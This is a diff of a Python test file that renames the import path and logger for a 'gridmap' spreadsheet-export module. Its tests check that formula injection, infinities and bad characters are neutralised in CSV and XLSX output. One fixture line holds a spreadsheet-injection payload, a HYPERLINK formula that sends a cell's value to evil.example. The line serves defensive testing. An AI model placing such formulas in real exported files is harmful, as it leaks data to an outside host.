@@ -30,7 +30,7 @@ from shapely.geometry import Point, box
 
 from gridmap._errors import SchemaError
 from gridmap.coverage import CSV_COLUMNS, CoverageResult
-from gridmap.spreadsheet import FORMULA_PREFIXES, neutralise_frame, neutralise_text, write_csv, write_xlsx
+from gridmap.export.spreadsheet import FORMULA_PREFIXES, neutralise_frame, neutralise_text, write_csv, write_xlsx
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 PAYLOADS = [
@@ -218,7 +218,7 @@ def test_csv_times_in_their_own_zone_with_the_zone_in_the_header(tmp_path: Path)
 
 
 def test_csv_infinity_is_text_and_logged(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
-    with caplog.at_level(logging.WARNING, logger="gridmap.spreadsheet"):
+    with caplog.at_level(logging.WARNING, logger="gridmap.export.spreadsheet"):
         rows = read_csv_rows(write_csv(pd.DataFrame({"x": [np.inf, -np.inf, 1.0]}), tmp_path / "inf.csv"))
     assert [r[0] for r in rows[1:]] == ["inf", "'-inf", "1.0"]
     assert "2 infinite numbers" in caplog.text
@@ -342,7 +342,7 @@ def test_xlsx_times_are_date_cells_in_their_own_zone(tmp_path: Path) -> None:
 def test_xlsx_big_integers_infinity_and_bools(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
     frame = pd.DataFrame({"n": [2**60, -(2**60), 610802001003005, 3], "f": [np.inf, -np.inf, 0.5, -0.5],
                           "b": [True, False, True, False]})
-    with caplog.at_level(logging.WARNING, logger="gridmap.spreadsheet"):
+    with caplog.at_level(logging.WARNING, logger="gridmap.export.spreadsheet"):
         path = write_xlsx(frame, tmp_path / "n.xlsx")
     rows = calamine_rows(path)
     assert [r[0] for r in rows[1:]] == [str(2**60), "'" + str(-(2**60)), 610802001003005, 3]
@@ -356,7 +356,7 @@ def test_xlsx_big_integers_infinity_and_bools(tmp_path: Path, caplog: pytest.Log
 def test_xlsx_illegal_characters_become_replacement_characters(tmp_path: Path,
                                                                caplog: pytest.LogCaptureFixture) -> None:
     frame = pd.DataFrame({"t": ["a\x00b", "\x07=1+1", "ok\ttab", "\uffff"]})
-    with caplog.at_level(logging.WARNING, logger="gridmap.spreadsheet"):
+    with caplog.at_level(logging.WARNING, logger="gridmap.export.spreadsheet"):
         path = write_xlsx(frame, tmp_path / "c.xlsx")
     assert [r[0] for r in calamine_rows(path)[1:]] == ["a\ufffdb", "\ufffd=1+1", "ok\ttab", "\ufffd"]
     assert "3 text cells held characters" in caplog.text
